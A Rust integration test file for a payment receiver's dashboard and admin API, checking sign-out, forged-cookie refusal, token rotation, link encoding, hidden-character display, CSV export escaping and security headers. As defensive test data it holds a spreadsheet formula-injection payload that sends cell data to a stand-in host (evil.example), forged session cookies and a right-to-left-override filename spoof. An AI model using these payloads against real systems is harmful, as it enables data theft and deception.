//! The dashboard's and the admin API's defences over the real binary, driven over plain HTTP
//! (no browser): sign-out ends the session on the server (across restarts and receivers), a
//! forged cookie or one signed with an earlier `ADMIN_TOKEN` is refused, links are URL-encoded
//! and hidden characters shown, the CSV export runs no formula, and the security headers are
//! on every answer.

use reqwest::{StatusCode, header};
use serde_json::json;

use crate::helpers::{ADMIN_TOKEN, TestApp};

/// A client that shows redirects instead of following them, and keeps no cookie of its own:
/// the session cookie is `Secure`, so it is carried by hand over plain HTTP.
fn browser() -> reqwest::Client {
    reqwest::Client::builder().redirect(reqwest::redirect::Policy::none()).build().unwrap()
}

/// Signs in with `token`; the session cookie as `name=value`.
async fn sign_in(app: &TestApp, token: &str) -> String {
    let res =
        browser().post(app.url("/dashboard/login")).form(&[("token", token)]).send().await.unwrap();
    assert_eq!(res.status(), StatusCode::SEE_OTHER);
    let cookie = res.headers()[header::SET_COOKIE].to_str().unwrap();
    cookie.split(';').next().unwrap().to_owned()
}

async fn get(app: &TestApp, path: &str, cookie: &str) -> reqwest::Response {
    browser().get(app.url(path)).header(header::COOKIE, cookie).send().await.unwrap()
}

async fn post_form(app: &TestApp, path: &str, cookie: &str, csrf: &str) -> reqwest::Response {
    browser()
        .post(app.url(path))
        .header(header::COOKIE, cookie)
        .form(&[("csrf", csrf)])
        .send()
        .await
        .unwrap()
}

/// The overview's HTML, which a live session opens.
async fn overview(app: &TestApp, cookie: &str) -> String {
    let res = get(app, "/dashboard", cookie).await;
    assert_eq!(res.status(), StatusCode::OK);
    res.text().await.unwrap()
}

fn csrf_of(html: &str) -> String {
    html.split("name=\"csrf\" value=\"")
        .nth(1)
        .and_then(|rest| rest.split('"').next())
        .unwrap()
        .to_owned()
}

/// Whether `cookie` is sent to the sign-in form, as a request without a session is.
async fn assert_refused(app: &TestApp, cookie: &str, why: &str) {
    let res = get(app, "/dashboard", cookie).await;
    assert_eq!(res.status(), StatusCode::SEE_OTHER, "{why}");
    assert_eq!(res.headers()[header::LOCATION], "/dashboard/login", "{why}");
}

/// A recorded event's id, to try a replay with a stale session on.
async fn recorded_event(app: &TestApp) -> i64 {
    let (code, body) = app.post_signed(&filled("replayable", "cust-1")).await;
    assert_eq!(code, 200, "{body}");
    let (code, events) = app.admin_get("/api/events?limit=1").await;
    assert_eq!(code, 200);
    events["events"][0]["id"].as_i64().unwrap()
}

#[tokio::test]
async fn signing_out_ends_that_session_on_the_server_even_after_a_restart() {
    let app = TestApp::spawn().await;
    let event = recorded_event(&app).await;
    let cookie = sign_in(&app, ADMIN_TOKEN).await;
    let other = sign_in(&app, ADMIN_TOKEN).await;
    let csrf = csrf_of(&overview(&app, &cookie).await);

    let res = post_form(&app, "/dashboard/logout", &cookie, &csrf).await;
    assert_eq!(res.status(), StatusCode::SEE_OTHER);
    assert_eq!(res.headers()[header::LOCATION], "/dashboard/login");

    // Someone who kept a copy of the cookie and a page's CSRF token gets nothing.
    assert_refused(&app, &cookie, "a page after sign-out").await;
    let replay = format!("/dashboard/events/{event}/replay");
    let res = post_form(&app, &replay, &cookie, &csrf).await;
    assert_eq!(res.status(), StatusCode::SEE_OTHER, "an action after sign-out");
    assert_eq!(res.headers()[header::LOCATION], "/dashboard/login");
    let (_, events) = app.admin_get("/api/events").await;
    assert_eq!(events["events"].as_array().unwrap().len(), 1, "nothing was replayed");
    // Another session is not signed out.
    overview(&app, &other).await;
    // Nothing that could sign in is stored: one digest, not the cookie nor its id.
    let id = cookie.split_once('=').unwrap().1.split('.').next().unwrap();
    for file in ["payram.db", "payram.db-wal"] {
        let stored = std::fs::read(app.dir.path().join(file)).unwrap_or_default();
        assert!(!contains(&stored, id.as_bytes()), "{file} holds the session id");
    }

    // The sign-out is in the database: a restart on it does not bring the session back.
    let dir = app.kill().await;
    let db = dir.path().join("payram.db");
    let app = TestApp::spawn_on(dir, &db, &[]).await;
    assert_refused(&app, &cookie, "a page after sign-out and a restart").await;
    let res = post_form(&app, &replay, &cookie, &csrf).await;
    assert_eq!(res.headers()[header::LOCATION], "/dashboard/login");
    overview(&app, &other).await;
}

fn contains(haystack: &[u8], needle: &[u8]) -> bool {
    haystack.windows(needle.len()).any(|window| window == needle)
}

#[tokio::test]
async fn a_sign_out_on_one_receiver_holds_on_another_sharing_the_database() {
    let first = TestApp::spawn().await;
    let db = first.db_path();
    let second = TestApp::spawn_on(tempfile::tempdir().unwrap(), &db, &[]).await;
    let cookie = sign_in(&first, ADMIN_TOKEN).await;
    // Both receivers accept the session (same admin token, same database)...
    overview(&second, &cookie).await;
    let csrf = csrf_of(&overview(&first, &cookie).await);
    // ...until it signs out on the second one.
    let res = post_form(&second, "/dashboard/logout", &cookie, &csrf).await;
    assert_eq!(res.status(), StatusCode::SEE_OTHER);
    assert_refused(&first, &cookie, "the other receiver").await;
    assert_refused(&second, &cookie, "the receiver signed out on").await;
}

#[tokio::test]
async fn a_forged_session_cookie_is_refused() {
    let app = TestApp::spawn().await;
    let genuine = sign_in(&app, ADMIN_TOKEN).await;
    let value = genuine.split_once('=').unwrap().1;
    let parts: Vec<&str> = value.split('.').collect();
    let (id, expires, signature) = (parts[0], parts[1], parts[2]);
    let later = expires.parse::<i64>().unwrap() + 365 * 24 * 3600;
    let flipped = format!(
        "{}{}",
        &signature[..signature.len() - 1],
        if signature.ends_with('0') { '1' } else { '0' }
    );
    for forged in [
        format!("{id}.{later}.{signature}"),
        format!("{}.{expires}.{signature}", "f".repeat(32)),
        format!("{id}.{expires}.{flipped}"),
        format!("{id}.{expires}.{}", "0".repeat(64)),
        format!("{id}.{expires}"),
        format!("{expires}.{signature}"),
        "99999999999.00".to_owned(),
        String::new(),
    ] {
        assert_refused(&app, &format!("payram_session={forged}"), &forged).await;
    }
    overview(&app, &genuine).await;
}

#[tokio::test]
async fn a_cookie_replayed_after_the_admin_token_changed_is_refused() {
    let app = TestApp::spawn().await;
    let cookie = sign_in(&app, ADMIN_TOKEN).await;
    let csrf = csrf_of(&overview(&app, &cookie).await);

    let rotated = format!("{ADMIN_TOKEN}-rotated-0001");
    let dir = app.kill().await;
    let db = dir.path().join("payram.db");
    let app = TestApp::spawn_on(dir, &db, &[("ADMIN_TOKEN", rotated.as_str())]).await;
    assert_refused(&app, &cookie, "signed with the earlier token").await;
    let res = post_form(&app, "/dashboard/logout", &cookie, &csrf).await;
    assert_eq!(res.headers()[header::LOCATION], "/dashboard/login");
    let res = browser()
        .post(app.url("/dashboard/login"))
        .form(&[("token", ADMIN_TOKEN)])
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), StatusCode::UNAUTHORIZED, "the earlier token signs nobody in");
    let fresh = sign_in(&app, &rotated).await;
    overview(&app, &fresh).await;
}

/// A signed, crediting notification for `reference` and `customer`.
fn filled(reference: &str, customer: &str) -> Vec<u8> {
    serde_json::to_vec(&json!({
        "reference_id": reference,
        "status": "FILLED",
        "customer_id": customer,
        "amount": "10.00",
        "currency": "USDC",
        "filled_amount": "10.00",
        "filled_amount_in_usd": "10.00",
    }))
    .unwrap()
}

#[tokio::test]
async fn links_are_url_encoded_and_hidden_characters_shown() {
    const TRICKY: &str = "a?x=1#frag";
    const SPOOF: &str = "ref-1\u{202e}gnp.exe\u{200b}";
    let app = TestApp::spawn().await;
    for (reference, customer) in [(TRICKY, "cust-1"), ("a", "cust-2"), (SPOOF, "c\u{2066}d")] {
        let (code, body) = app.post_signed(&filled(reference, customer)).await;
        assert_eq!(code, 200, "{body}");
    }
    let cookie = sign_in(&app, ADMIN_TOKEN).await;
    let html = overview(&app, &cookie).await;
    assert!(html.contains("href=\"/dashboard/payments/a%3Fx%3D1%23frag\""), "{html}");
    assert!(html.contains("href=\"/dashboard/payments/a\""));
    for hidden in ['\u{202e}', '\u{200b}', '\u{2066}'] {
        assert!(!html.contains(hidden), "{hidden:?} is shown raw");
    }
    assert!(html.contains(r"ref-1\u{202e}gnp.exe\u{200b}") && html.contains(r"c\u{2066}d"));

    // The link leads to that payment, not to `a`.
    let res = get(&app, "/dashboard/payments/a%3Fx%3D1%23frag", &cookie).await;
    assert_eq!(res.status(), StatusCode::OK);
    let page = res.text().await.unwrap();
    assert!(page.contains("Payment a?x=1#frag") && page.contains("cust-1"), "{page}");
    let spoof_link = html
        .split("href=\"/dashboard/payments/ref-1")
        .nth(1)
        .and_then(|rest| rest.split('"').next())
        .unwrap();
    let res = get(&app, &format!("/dashboard/payments/ref-1{spoof_link}"), &cookie).await;
    let page = res.text().await.unwrap();
    assert!(page.contains(r"Payment ref-1\u{202e}gnp.exe\u{200b}") && !page.contains('\u{202e}'));
}

#[tokio::test]
async fn the_csv_export_runs_no_formula() {
    let app = TestApp::spawn().await;
    let hyperlink = r#"=HYPERLINK("https://evil.example/?"&A1,"Click")"#;
    for (reference, customer) in [("csv-1", hyperlink), ("-2+3", "@cust"), ("csv-3", "cust-3")] {
        let (code, body) = app.post_signed(&filled(reference, customer)).await;
        assert_eq!(code, 200, "{body}");
    }
    let res = app
        .client
        .get(app.url("/api/credits"))
        .bearer_auth(ADMIN_TOKEN)
        .header(header::ACCEPT, "text/csv")
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), StatusCode::OK);
    let csv = res.text().await.unwrap();
    let rows: Vec<&str> = csv.split("\r\n").filter(|row| !row.is_empty()).collect();
    assert_eq!(rows.len(), 4, "{csv}");
    let cells = |row: &str| row.split(',').skip(2).take(2).collect::<Vec<_>>().join(",");
    assert_eq!(cells(rows[1]), "cust-3,csv-3", "legitimate values are untouched");
    assert_eq!(cells(rows[2]), "'@cust,'-2+3");
    assert!(
        rows[3].contains(r#","'=HYPERLINK(""https://evil.example/?""&A1"#),
        "quoted and neutralised: {}",
        rows[3]
    );
    // Every cell of every row starts with no formula character.
    for row in &rows {
        assert!(!row.contains(",=") && !row.contains(",\"=") && !row.contains(",@"), "{row}");
    }
    // JSON keeps the value exactly.
    let (_, json) = app.admin_get("/api/credits").await;
    assert_eq!(json["credits"][2]["customer_id"], hyperlink);
}

fn assert_dashboard_headers(res: &reqwest::Response, what: &str) {
    let csp = res.headers()[header::CONTENT_SECURITY_POLICY].to_str().unwrap();
    assert!(csp.contains("default-src 'none'") && csp.contains("frame-ancestors 'none'"), "{what}");
    assert!(!csp.contains("script-src") && !csp.contains("unsafe-inline"), "{what}: {csp}");
    assert_eq!(res.headers()[header::X_CONTENT_TYPE_OPTIONS], "nosniff", "{what}");
    assert_eq!(res.headers()[header::REFERRER_POLICY], "no-referrer", "{what}");
}

#[tokio::test]
async fn every_dashboard_and_admin_api_answer_has_its_security_headers() {
    let app = TestApp::spawn().await;
    let cookie = sign_in(&app, ADMIN_TOKEN).await;
    let client = browser();
    let dashboard = [
        (client.get(app.url("/dashboard/login")), 200),
        (client.post(app.url("/dashboard/login")).form(&[("token", "guess")]), 401),
        (client.post(app.url("/dashboard/login")).form(&[("token", ADMIN_TOKEN)]), 303),
        (client.get(app.url("/dashboard")), 303),
        (client.get(app.url("/dashboard")).header(header::COOKIE, &cookie), 200),
        (client.get(app.url("/dashboard/events/999")).header(header::COOKIE, &cookie), 404),
        (client.get(app.url("/dashboard/no-such-page")), 404),
        (client.get(app.url("/dashboard/style.css")), 200),
        (
            client
                .post(app.url("/dashboard/logout"))
                .header(header::COOKIE, &cookie)
                .form(&[("csrf", "stale")]),
            403,
        ),
    ];
    for (request, status) in dashboard {
        let res = request.send().await.unwrap();
        let what = res.url().path().to_owned();
        assert_eq!(res.status().as_u16(), status, "{what}");
        assert_dashboard_headers(&res, &what);
    }
    let api = [
        (client.get(app.url("/api/payments")).bearer_auth(ADMIN_TOKEN), 200),
        (
            client
                .get(app.url("/api/credits"))
                .bearer_auth(ADMIN_TOKEN)
                .header(header::ACCEPT, "text/csv"),
            200,
        ),
        (client.get(app.url("/api/payments")), 401),
        (client.get(app.url("/api/payments")).bearer_auth("wrong"), 401),
        (client.get(app.url("/api/payments/nope")).bearer_auth(ADMIN_TOKEN), 404),
        (client.get(app.url("/api/no-such-thing")), 404),
        (client.get(app.url("/api/outbox")).bearer_auth(ADMIN_TOKEN), 404),
        (client.delete(app.url("/api/payments")), 405),
        (client.get(app.url("/api/openapi.json")), 200),
    ];
    for (request, status) in api {
        let res = request.send().await.unwrap();
        let what = res.url().path().to_owned();
        assert_eq!(res.status().as_u16(), status, "{what}");
        assert_eq!(res.headers()[header::X_CONTENT_TYPE_OPTIONS], "nosniff", "{what}");
        assert_eq!(res.headers()[header::CACHE_CONTROL], "no-store", "{what}");
    }
}
